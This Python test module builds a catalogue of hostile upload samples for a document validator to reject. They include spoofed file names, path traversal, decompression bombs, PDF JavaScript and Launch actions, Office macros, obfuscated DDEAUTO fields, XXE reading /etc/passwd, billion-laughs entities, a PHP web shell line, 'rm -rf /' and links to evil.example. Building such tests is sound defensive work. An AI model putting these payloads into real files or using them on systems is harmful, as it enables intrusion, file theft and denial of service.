"""Files that somebody might send to do harm: each a name and a content, made here. None of them may be kept."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, String
from PIL import Image

from tests.offenders.documents.samples import (
    OFFICE,
    pdf,
    picture,
    relations,
    sheet,
    sheet_parts,
    word,
    word_parts,
    word_text,
    zipped,
)

Sample = tuple[str, Callable[[], bytes]]  # the name it is sent under, and what makes it

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(document.domain)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"
PROGRAM = b"MZ\x90\x00" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


# Names ---------------------------------------------------------------------------------------------------
NAMES: dict[str, Sample] = {
    "a program": ("order.exe", lambda: PROGRAM),
    "a script in a picture's clothes": ("order.svg", lambda: SVG),
    "a page": ("order.html", lambda: HTML),
    "a second ending": ("order.pdf.exe", lambda: pdf()),
    "an inner ending": ("order.exe.pdf", lambda: pdf()),
    "a name read from right to left": ("order\u202efdp.exe", lambda: pdf()),
    "a name cut by NUL": ("order.pdf\x00.exe", lambda: pdf()),
    "a name with NUL that ends well": ("order.exe\x00.pdf", lambda: pdf()),
    "a way out of the folder": ("../../../../etc/passwd", lambda: b"root:x:0:0"),
    "a way out of the folder, Windows": ("..\\..\\win.ini", lambda: b"[fonts]"),
    "a configuration of a server": (".htaccess", lambda: b"AddType application/x-httpd-php .jpg"),
    "no ending": ("order", lambda: pdf()),
    "an ending of dots": ("order.pdf.exe. . .", lambda: pdf()),
    "macros by name": ("order.docm", lambda: word()),
    "a template by name": ("order.dotx", lambda: word()),
    "an archive": ("order.zip", lambda: zipped({"a.txt": "a"})),
    "a mail": ("order.eml", lambda: b"From: a\r\n\r\n"),
    "a shortcut": ("order.lnk", lambda: b"L\0\0\0"),
    "an animation": ("order.gif", lambda: picture("GIF", mode="P")),
}


# What is not what it says ------------------------------------------------------------------------------
def _tar() -> bytes:
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as made:
        made.addfile(tarfile.TarInfo("../../evil.sh"))
    return out.getvalue()


OTHERS: dict[str, Sample] = {
    "nothing": ("order.pdf", lambda: b""),
    "one byte": ("order.pdf", lambda: b"%"),
    "a page that says PDF": ("order.pdf", lambda: HTML),
    "a page with PDF in it": ("order.pdf", lambda: HTML + pdf()),
    "a page that says picture": ("order.jpg", lambda: HTML),
    "a page that says text": ("order.txt", lambda: HTML),
    "a page after blank lines that says text": ("order.txt", lambda: b"\n\n  " + HTML),
    "a page in another alphabet": ("order.txt", lambda: HTML.decode().encode("utf-16")),
    "a script that says text": ("order.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "PHP that says text": ("order.txt", lambda: PHP),
    "SVG that says text": ("order.txt", lambda: SVG),
    "SVG that says picture": ("order.png", lambda: SVG),
    "RTF that says text": ("order.txt", lambda: b"{\\rtf1{\\object\\objocx}}"),
    "RTF that says Word": ("order.docx", lambda: b"{\\rtf1{\\object\\objocx}}"),
    "bytes that say text": ("order.txt", lambda: b"abc\0\1\2\3" * 50),
    "a terminal's commands": ("order.txt", lambda: b"hello \x1b]0;owned\x07"),
    "a program that says text": ("order.txt", lambda: PROGRAM),
    "a program that says PDF": ("order.pdf", lambda: PROGRAM),
    "a program that says Word": ("order.docx", lambda: PROGRAM),
    "Word of before 2007, or locked": ("order.docx", lambda: OLE),
    "an archive that says PDF": ("order.pdf", lambda: zipped({"a": "a"})),
    "an archive that says Word": ("order.docx", lambda: zipped({"a.xml": "<a/>"})),
    "a tarball that says Excel": ("order.xlsx", _tar),
    "a PDF that says text": ("order.txt", lambda: pdf()),
    "a PDF that says picture": ("order.png", lambda: pdf()),
    "a workbook that says Word": ("order.docx", lambda: sheet()),
    "Word that says workbook": ("order.xlsx", lambda: word()),
}


# Pictures ------------------------------------------------------------------------------------------------
def png_of(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    """A picture that says it is of that size, whatever it holds."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(3 * 10 + 1) * 10)
    body = [(b"IHDR", head), *chunks, (b"IDAT", pixels), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*each) for each in body)


def _moving() -> bytes:
    out = io.BytesIO()
    first, second = Image.new("RGB", (9, 9), "red"), Image.new("RGB", (9, 9), "blue")
    first.save(out, "PNG", save_all=True, append_images=[second])
    return out.getvalue()


def _spoilt(content: bytes, at: int) -> bytes:
    return content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]


PICTURES: dict[str, Sample] = {
    "fifty thousand by fifty thousand": ("face.png", lambda: png_of(50_000, 50_000)),
    "a very long line": ("face.png", lambda: png_of(2_000_000, 1)),
    "half a photograph": ("face.jpg", lambda: picture(size=(900, 900))[:3000]),
    "the first bytes of a photograph": ("face.jpg", lambda: b"\xff\xd8\xff\xe0"),
    "a picture with a wrong sum": ("face.png", lambda: _spoilt(picture("PNG"), 20)),
    "a picture that moves": ("face.png", _moving),
    "a text of a gigabyte in a picture": (
        "face.png",
        lambda: png_of(10, 10, (b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200 << 20), 9))),
    ),
    "GIF that says JPEG": ("face.jpg", lambda: picture("GIF", mode="P")),
    "BMP that says PNG": ("face.png", lambda: picture("BMP")),
    "TIFF that says JPEG": ("face.jpg", lambda: picture("TIFF")),
    "WebP that says PNG": ("face.png", lambda: picture("WEBP")),
    "PostScript that says JPEG": ("face.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n"),
    "film that says HEIC": ("face.heic", lambda: b"\0\0\0\x18ftypmp42" + bytes(400)),
    "rubbish that says HEIC": ("face.heic", lambda: b"\0\0\0\x18ftypheic" + b"\xff" * 4000),
    "a picture of nothing": ("face.png", lambda: png_of(0, 0)),
}


# PDF -------------------------------------------------------------------------------------------------------
def _js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _annotated(**entries: object) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **entries)
        made.pages[0].Annots = made.make_indirect(Array([made.make_indirect(annotation)]))

    return pdf(change)


def _clicked(**action: object) -> bytes:
    return _annotated(Subtype=Name.Link, A=Dictionary(**action))


def _rooted(key: str, value: Callable[[pikepdf.Pdf], object], **options: object) -> bytes:
    return pdf(lambda made: made.Root.__setitem__(key, value(made)), **options)


def _carrying(made: pikepdf.Pdf) -> object:
    made.attachments["evil.exe"] = PROGRAM
    return made.Root.Names


def _escaped() -> bytes:
    return pdf(lambda made: made.Root.__setitem__("/OpenAction", _js())).replace(
        b"/JavaScript", b"/J#61vaScript"
    )


def _in_no_table() -> bytes:
    """An object that the file's table does not list, for readers that repair."""
    content = pdf()
    hidden = b"\n99 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    return content.replace(b"\nxref", hidden + b"xref", 1)


def _swelling() -> bytes:
    """A table of the file's objects that unpacks to gigabytes."""
    packed = zlib.compress(bytes(1 << 30), 9)
    head = b"%PDF-1.7\n"
    entry = b"1 0 obj\n<</Type/XRef/Size 9/W[1 2 1]/Root 2 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(
        packed
    )
    return head + entry + packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


PDFS: dict[str, Sample] = {
    "JavaScript on opening": ("order.pdf", lambda: _rooted("/OpenAction", lambda made: _js())),
    "JavaScript by name": (
        "order.pdf",
        lambda: _rooted("/Names", lambda made: Dictionary(JavaScript=Dictionary(Names=[String("a"), _js()]))),
    ),
    "JavaScript packed away": (
        "order.pdf",
        lambda: _rooted(
            "/OpenAction",
            lambda made: made.make_indirect(_js()),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
    ),
    "JavaScript spelt otherwise": ("order.pdf", _escaped),
    "JavaScript in no table": ("order.pdf", _in_no_table),
    "JavaScript of a page": (
        "order.pdf",
        lambda: pdf(lambda made: made.pages[0].obj.__setitem__("/AA", Dictionary(O=_js()))),
    ),
    "a program started by a click": ("order.pdf", lambda: _clicked(S=Name.Launch, F=String("cmd.exe"))),
    "a form sent elsewhere": (
        "order.pdf",
        lambda: _clicked(S=Name.SubmitForm, F=String("https://evil.example")),
    ),
    "another file opened": ("order.pdf", lambda: _clicked(S=Name.GoToR, F=String("\\\\evil\\share"), D=[0])),
    "data fetched": ("order.pdf", lambda: _clicked(S=Name.ImportData, F=String("a.fdf"))),
    "a file within": ("order.pdf", lambda: _rooted("/Names", _carrying)),
    "a file on the page": (
        "order.pdf",
        lambda: _annotated(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, EF=Dictionary())),
    ),
    "a film": ("order.pdf", lambda: _annotated(Subtype=Name.RichMedia)),
    "a form that runs by itself": (
        "order.pdf",
        lambda: _rooted("/AcroForm", lambda made: Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>"))),
    ),
    "a password to open": ("order.pdf", lambda: pdf(encryption=Encryption(user="a", owner="b"))),
    "a password to change": ("order.pdf", lambda: pdf(encryption=Encryption(user="", owner="b"))),
    "an archive on the end": ("order.pdf", lambda: pdf() + zipped({"a.exe": PROGRAM})),
    "half of it": ("order.pdf", lambda: pdf()[:300]),
    "something before it": ("order.pdf", lambda: b"GIF89a" + pdf()),
    "no page": ("order.pdf", lambda: pdf(lambda made: made.pages.__delitem__(0))),
    "a table of gigabytes": ("order.pdf", _swelling),
}


# Word and Excel ------------------------------------------------------------------------------------------
_RELS = "word/_rels/document.xml.rels"


def _field(*runs: str) -> str:
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def _quoted() -> str:
    """A field put together by another, whose letters are numbers: DDEAUTO, which no search for the word finds."""
    inner = _field(" QUOTE 68 68 69 65 85 84 79 ")
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "end"))
    return f"<w:p>{begin}</w:p>{inner}<w:p><w:r><w:instrText> c:\\\\a </w:instrText></w:r>{end}</w:p>"


def _bomb(size: int) -> bytes:
    return word(**{"word/media/image1.bmp": bytes(size)})


def _many() -> bytes:
    return zipped(word_parts() | {f"word/media/image{number}.png": b"" for number in range(20_000)})


def _laughing() -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return f"<?xml version='1.0'?><!DOCTYPE w [{entities}]><w>&a11;</w>".encode()


_READING = (
    "<?xml version='1.0' encoding='{0}'?><!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><w>&x;</w>"
)


def _with_entry(change: Callable[[zipfile.ZipInfo], None], name: str = "word/evil.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for part, content in word_parts().items():
            made.writestr(part, content)
        entry = zipfile.ZipInfo(name)
        change(entry)
        made.writestr(entry, "<a/>")
    return out.getvalue()


def _named(name: str) -> bytes:
    return _with_entry(lambda entry: None, name)


def _twice() -> bytes:
    """One name twice, in another case: programs differ in which they read."""
    return zipped(word_parts() | {"Word/Document.xml": word_text("")})


def _locked() -> bytes:
    content = bytearray(word())
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def _lying() -> bytes:
    """A part whose directory says that it is small."""
    content = bytearray(_bomb(90 << 20))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(content)


def _overlapping() -> bytes:
    """Two parts of the directory that are the same bytes: how a small file unpacks to a large one."""
    content = bytearray(word())
    first = content.index(b"PK\x01\x02")
    second = content.index(b"PK\x01\x02", first + 4)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


OFFICE_FILES: dict[str, Sample] = {
    "macros": ("order.docx", lambda: word(**{"word/vbaProject.bin": OLE})),
    "macros by content type": (
        "order.docx",
        lambda: word(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "macros by relation": ("order.docx", lambda: word(**{_RELS: relations(("vbaProject", "a.xml", False))})),
    "a template elsewhere": (
        "order.docx",
        lambda: word(
            **{
                "word/_rels/settings.xml.rels": relations(
                    ("attachedTemplate", "https://evil.example/a", True)
                )
            }
        ),
    ),
    "a picture elsewhere": (
        "order.docx",
        lambda: word(**{_RELS: relations(("image", "https://evil.example/pixel.png", True))}),
    ),
    "a share of another machine": (
        "order.docx",
        lambda: word(**{_RELS: relations(("hyperlink", "file://evil/share/a", True))}),
    ),
    "a link that runs": (
        "order.docx",
        lambda: word(**{_RELS: relations(("hyperlink", "javascript:alert(1)", True))}),
    ),
    "a program embedded": ("order.docx", lambda: word(**{"word/embeddings/oleObject1.bin": OLE})),
    "a workbook embedded": ("order.docx", lambda: word(**{"word/embeddings/a.xml": "<a/>"})),
    "an object in the text": ("order.docx", lambda: word("<w:object><o:OLEObject xmlns:o='o'/></w:object>")),
    "a page in the text": ("order.docx", lambda: word('<w:altChunk r:id="r1" xmlns:r="r"/>')),
    "a control": ("order.docx", lambda: word(**{"word/activeX/activeX1.xml": "<a/>"})),
    "a field that starts a program": ("order.docx", lambda: word(_field(" DDEAUTO c:\\\\cmd.exe "))),
    "the same, in pieces": ("order.docx", lambda: word(_field(" DD", "EAU", "TO c:\\\\cmd.exe "))),
    "the same, in numbers": ("order.docx", lambda: word(_quoted())),
    "the same, in short": ("order.docx", lambda: word('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>')),
    "a field that fetches": ("order.docx", lambda: word(_field(' INCLUDEPICTURE "https://evil.example" '))),
    "a bomb": ("order.docx", lambda: _bomb(300 << 20)),
    "a bomb below the limit": ("order.docx", lambda: _bomb(60 << 20)),
    "a bomb that lies": ("order.docx", _lying),
    "too many parts": ("order.docx", _many),
    "parts over each other": ("order.docx", _overlapping),
    "an archive within": ("order.docx", lambda: word(**{"word/media/image1.png": zipped({"a": "a"})})),
    "a program within": ("order.docx", lambda: word(**{"word/media/image1.png": PROGRAM})),
    "a script in a picture within": ("order.docx", lambda: word(**{"word/media/image1.svg": SVG})),
    "entities that grow": ("order.docx", lambda: word(**{"word/styles.xml": _laughing()})),
    "an entity that reads": ("order.docx", lambda: word(**{"word/styles.xml": _READING.format("UTF-8")})),
    "an entity that reads, in another alphabet": (
        "order.docx",
        lambda: word(**{"word/styles.xml": _READING.format("UTF-16").encode("utf-16")}),
    ),
    "elements without end": ("order.docx", lambda: word(**{"word/styles.xml": "<a>" * 100_000})),
    "elements within elements": (
        "order.docx",
        lambda: word(**{"word/styles.xml": "<a>" * 5_000 + "</a>" * 5_000}),
    ),
    "a part out of the folder": ("order.docx", lambda: _named("../../../evil.xml")),
    "a part of the root": ("order.docx", lambda: _named("/etc/cron.d/evil.xml")),
    "a part of another drive": ("order.docx", lambda: _named("C:\\evil.xml")),
    "a link of the file system": (
        "order.docx",
        lambda: _with_entry(lambda entry: setattr(entry, "external_attr", 0o120777 << 16)),
    ),
    "packed in another way": (
        "order.docx",
        lambda: _with_entry(lambda entry: setattr(entry, "compress_type", zipfile.ZIP_LZMA)),
    ),
    "a part twice": ("order.docx", _twice),
    "a part behind a password": ("order.docx", _locked),
    "a picture before it": ("order.docx", lambda: picture() + word()),
    "another archive before it": ("order.docx", lambda: zipped({"a": PROGRAM}) + word()),
    "something behind it": ("order.docx", lambda: word() + PHP),
    "half of a document": ("order.docx", lambda: word()[:400]),
    "macros in a workbook": ("order.xlsx", lambda: sheet(**{"xl/vbaProject.bin": OLE})),
    "macros in a workbook by content type": (
        "order.xlsx",
        lambda: sheet(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    ),
    "macros of 1992": ("order.xlsx", lambda: sheet(**{"xl/macrosheets/sheet1.xml": "<a/>"})),
    "a formula that starts a program": ("order.xlsx", lambda: sheet("cmd|' /C calc'!A0")),
    "a formula that fetches": ("order.xlsx", lambda: sheet('WEBSERVICE("https://evil.example")')),
    "another workbook": ("order.xlsx", lambda: sheet(**{"xl/externalLinks/externalLink1.xml": "<a/>"})),
    "a ribbon that runs": ("order.xlsx", lambda: sheet(**{"customUI/customUI14.xml": "<a/>"})),
    "an object in a workbook": (
        "order.xlsx",
        lambda: zipped(
            sheet_parts() | {"xl/worksheets/sheet2.xml": "<a><oleObjects><oleObject/></oleObjects></a>"}
        ),
    ),
    "a workbook in bytes": (
        "order.xlsx",
        lambda: zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\x83\x01", "x.xml": OFFICE}),
    ),
}


# By what they claim to be, and then by what each tries.
FAMILIES: dict[str, dict[str, Sample]] = {
    "names": NAMES,
    "what is not what it says": OTHERS,
    "pictures": PICTURES,
    "PDF": PDFS,
    "Word and Excel": OFFICE_FILES,
}
